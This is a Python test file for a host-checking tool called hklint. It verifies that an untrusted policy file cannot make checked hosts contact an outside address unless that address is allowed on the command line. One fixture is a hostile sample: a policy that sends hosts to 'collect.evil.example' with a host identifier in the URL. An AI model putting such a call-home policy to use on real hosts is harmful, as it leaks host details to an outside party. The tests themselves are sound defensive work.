"""A policy from anybody cannot make hosts call home: what was not allowed leaves no host."""

import json
import re
from collections.abc import Callable
from importlib import resources
from pathlib import Path
from typing import Any

import pytest

from hklint.lab.lab import Lab, LabHost

Command = Callable[..., Any]

URL = "https://collect.evil.example/?host=EX04"
OPTION = "--allow-url https://collect.evil.example"
POLICY = f"""\
kind: policy
id: foreign
title: Hosts reach what somebody wants them to reach
version: 1.0.0
parameters:
  url: {{type: url, default: "{URL}", title: Address of the request}}
rules:
  - id: reached
    title: The host reaches it
    severity: high
    expect: {{web_request: "{{url}}", outcome: reached}}
    why: Whoever wrote this wants to know where it is judged.
    remedy: Open the firewall.
"""


def _unfolded(text: str) -> str:
    """What the terminal's report says, without its line breaks."""
    return " ".join(re.sub(r"\n +=", " ", text).split())


@pytest.fixture
def new_host(new_lab: Callable[..., Lab], tmp_path: Path) -> Callable[[str], tuple[Lab, LabHost]]:
    """A healthy host that finds collect.evil.example at a destination of the lab, and the lab."""

    def start(destination: str) -> tuple[Lab, LabHost]:
        shipped = resources.files("hklint.lab").joinpath("hosts/ex2016-healthy.yaml")
        names = f"names:\n  collect.evil.example: {destination}\n"
        file = tmp_path / "target.yaml"
        file.write_text(shipped.read_text("utf-8").replace("names:\n", names), "utf-8")
        running = new_lab(file)
        file.unlink()
        Path("foreign.yaml").write_text(POLICY, "utf-8")
        return running, running.hosts["target"]

    return start


@pytest.fixture
def host(
    hklint_command: Command, new_host: Callable[[str], tuple[Lab, LabHost]]
) -> tuple[Command, LabHost]:
    """hklint, and a host that could reach what the policy asks for."""
    return hklint_command, new_host("store")[1]


def test_the_host_is_not_told_and_the_gate_stays_shut(host: tuple[Command, LabHost]) -> None:
    command, target = host
    done = command("gate", target.target, "-p", "foreign.yaml")
    assert (done.code, target.handshakes) == (4, ())
    said = _unfolded(done.out)
    assert "UNKNOWN[reached]" in said
    assert f"request to {URL} [default]: not allowed to be asked for: {OPTION} allows it" in said
    assert f"fix If hosts may be asked for it: {OPTION} allows it." in said
    assert "Open the firewall" not in said


@pytest.mark.parametrize(
    "allowed",
    ["https://collect.evil.example", "https://*.evil.example", URL, "@allowed.txt"],
)
def test_who_runs_hklint_allows_it(host: tuple[Command, LabHost], allowed: str) -> None:
    command, target = host
    Path("allowed.txt").write_text("https://collect.evil.example:443/  # theirs\n", "utf-8")
    done = command("check", target.target, "-p", "foreign.yaml", "--allow-url", allowed)
    assert (done.code, [made.uri for made in target.handshakes]) == (0, [URL])


@pytest.mark.parametrize("allowed", ["https://evil.example", "https://collect.evil.example:8443"])
def test_what_is_allowed_elsewhere_is_not_allowed_here(
    host: tuple[Command, LabHost], allowed: str
) -> None:
    command, target = host
    done = command("check", target.target, "-p", "foreign.yaml", "--allow-url", allowed)
    assert (done.code, target.handshakes) == (4, ())


def test_a_mistake_in_the_option_is_found_before_anybody_is_asked(
    host: tuple[Command, LabHost],
) -> None:
    command, target = host
    done = command("check", target.target, "-p", "foreign.yaml", "--allow-url", "evil.example")
    assert done.code == 2
    assert done.err == "Error: --allow-url evil.example: it does not begin with https://\n"


def test_a_parameter_is_no_permission(host: tuple[Command, LabHost]) -> None:
    """A profile, which may be anybody's too, sets parameters just as --set does."""
    command, target = host
    setting = f"store_url={URL}"
    done = command("check", target.target, "-p", "exchange-store-addins", "--set", setting)
    assert (done.code, target.handshakes) == (4, ())
    assert "UNKNOWN[store-reachable]" in done.out
    assert "DIAGNOSIS: not known" in done.out
    rest = ("--set", setting, "--allow-url", URL)
    allowed = command("check", target.target, "-p", "exchange-store-addins", *rest)
    assert (allowed.code, len(target.handshakes)) == (0, 3)


def test_a_snapshot_says_what_was_not_requested(host: tuple[Command, LabHost]) -> None:
    command, target = host
    taken = command("snapshot", target.target, "-p", "foreign.yaml", "-o", "ex04.json")
    assert taken.code == 0
    assert f"Not requested: {URL}. To have hosts request it: {OPTION}\n" in taken.err
    assert json.loads(Path("ex04.json").read_text("utf-8"))["not_requested"] == [URL]
    for option in ((), ("--allow-url", URL)):
        judged = command("check", "ex04.json", "-p", "foreign.yaml", *option)
        assert judged.code == 4
        assert f"{OPTION} allows it" in _unfolded(judged.out)
        assert "a snapshot has to be taken anew" in judged.out
    assert target.handshakes == ()


def test_a_redirect_leads_nowhere(
    hklint_command: Command, new_host: Callable[[str], tuple[Lab, LabHost]]
) -> None:
    """An address that is allowed sends on to one that nobody asked for: nothing comes there."""
    lab, target = new_host("redirecting-store")
    done = hklint_command("check", target.target, "-p", "foreign.yaml", "--allow-url", URL, "-v")
    assert (done.code, [made.uri for made in target.handshakes]) == (0, [URL])
    assert "HTTP 302" in done.out
    assert lab.store.accepted == 0
